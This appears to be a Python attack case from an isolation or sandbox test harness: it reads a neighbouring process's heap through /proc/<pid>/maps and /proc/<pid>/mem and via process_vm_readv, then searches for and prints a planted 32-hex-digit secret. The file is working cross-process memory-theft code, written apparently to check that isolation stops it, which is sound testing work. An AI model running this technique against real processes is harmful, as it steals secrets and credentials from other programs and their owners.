"""Read a neighbour's memory through /proc and with process_vm_readv."""

from __future__ import annotations

import ctypes
import re
from pathlib import Path

from attack_target import trying


def attack(target):
    with trying():
        lines = Path(f"/proc/{target.neighbour}/maps").read_text().splitlines()
        heap = next(line for line in lines if "[heap]" in line).split()[0]
        low, high = (int(part, 16) for part in heap.split("-"))
        with trying(), Path(f"/proc/{target.neighbour}/mem").open("rb", 0) as memory:
            memory.seek(low)
            search(memory.read(high - low))
        buffer = ctypes.create_string_buffer(high - low)
        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), high - low)
        remote = (ctypes.c_size_t * 2)(low, high - low)
        target.call("process_vm_readv", target.neighbour, local, 1, remote, 1, 0)
        search(buffer.raw)


def search(held):
    """Print what follows the mark that the neighbour puts before its secret."""
    found = re.search(rb"targets=[0-9a-f]{32}", held)
    print(found.group() if found else "")
